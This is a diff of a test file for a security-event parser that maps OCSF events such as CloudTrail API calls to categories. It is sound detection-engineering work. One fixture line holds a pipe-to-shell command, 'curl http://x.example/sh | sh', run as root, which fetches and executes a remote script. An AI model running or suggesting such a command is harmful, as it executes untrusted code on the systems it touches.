@@ -62,7 +62,8 @@ describe('OCSF events', () => {
     expect(classOf(3001)).toBe('authentication');
     expect(classOf(4003)).toBe('network');
     expect(classOf(5019)).toBe('config_change');
-    expect(classOf(6003)).toBe('application');
+    // activity_id 1 is Create: an API Activity that creates is a configuration change (see below).
+    expect(classOf(6003)).toBe('config_change');
     expect(classOf(1099, 1)).toBe('system');
     expect(classOf(4099)).toBe('network');
   });
@@ -81,6 +82,17 @@ describe('OCSF events', () => {
     });
     expect(parsed.techniques).toEqual(['T1105']);
     expect(parsed.original).toMatchObject({ Image: '/usr/bin/curl', CommandLine: 'curl http://x.example/sh | sh', ParentImage: '/bin/bash', ParentCommandLine: '-bash', User: 'root', ProcessId: '4242' });
+  });
+
+  it('API Activity (6003): Create, Update and Delete calls are configuration changes, Read is not', () => {
+    // The ocsf/examples CloudTrail API Activity sample (fixtures/ocsf/ocsf-examples-cloudtrail.jsonl) with its activity varied.
+    const call = (activity_id: number, activity_name: string) => ({
+      activity_id, activity_name, class_uid: 6003, category_uid: 6, metadata: { product: { name: 'CloudTrail', vendor_name: 'AWS' }, version: '1.5.0' },
+      api: { operation: 'UpdateTrail', service: { name: 'cloudtrail.amazonaws.com' } }, cloud: { provider: 'AWS', account: { uid: '1111111111111' }, region: 'us-east-1' },
+    });
+    const categories = [[1, 'Create'], [2, 'Read'], [3, 'Update'], [4, 'Delete']].map(([id, name]) => parse(call(id as number, name as string)).fields['event.category']);
+    expect(categories).toEqual(['configuration', 'api', 'configuration', 'configuration']);
+    expect(parse(call(3, 'Update')).fields).toMatchObject({ 'cloud.provider': 'AWS', 'cloud.account.id': '1111111111111', 'cloud.service.name': 'cloudtrail.amazonaws.com' });
   });
 
   it('recognizes OCSF by a numeric class_uid beside an OCSF marker', () => {
